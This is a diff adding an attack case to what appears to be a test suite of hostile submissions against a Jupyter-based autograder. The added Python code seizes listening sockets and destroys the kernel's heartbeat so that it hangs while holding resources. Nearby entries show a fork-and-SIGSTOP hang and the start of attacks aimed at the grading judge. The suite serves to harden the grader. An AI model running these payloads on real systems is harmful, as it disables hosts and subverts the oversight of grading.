@@ -135,6 +135,22 @@ time.sleep(3600)
 """, change=lambda nb: nb.cells.append(new_code_cell(
     "import os, signal, time\nif os.fork() == 0: os.kill(os.getpid(), signal.SIGSTOP)"
     "\ntime.sleep(3600)"))),
+    Attack(HARMING, "a heart that takes no call", harms=HOST, before="""
+import os, socket, time
+from ipykernel.kernelapp import IPKernelApp
+kept = []
+for fd in map(int, os.listdir("/proc/self/fd")):
+    try:
+        one = socket.socket(fileno=os.dup(fd))
+        kept.append(one)
+        if not one.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
+            kept.pop().detach()
+    except OSError: pass
+heart = IPKernelApp.instance().heartbeat
+heart.socket.close(0)
+heart.context.destroy(0)
+time.sleep(3600)
+"""),
     # --- what the judge is told ------------------------------------------------------
     Attack(DESIGN, "questions without end", before=CHANNEL + """
 from autograder.student import agent
